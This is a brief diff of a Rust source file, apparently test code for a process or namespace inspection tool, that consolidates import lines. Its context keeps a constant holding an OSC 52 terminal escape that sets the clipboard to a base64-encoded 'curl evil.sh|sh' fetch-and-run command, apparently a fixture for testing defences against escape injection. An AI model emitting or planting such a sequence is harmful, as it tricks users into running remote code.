@@ -10,8 +10,7 @@ use std::os::fd::AsRawFd;
 use std::path::Path;
 use std::process::Output;
 
-use crate::scan::{FakeProc, HOST, with};
-use crate::util::{FAKE_ROOT_NOTICE, nsview, raw_stderr, stderr, stdout};
+use crate::util::{FAKE_ROOT_NOTICE, FakeProc, HOST, nsview, raw_stderr, stderr, stdout, with};
 
 /// OSC 52: set the clipboard to `curl evil.sh|sh`.
 const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
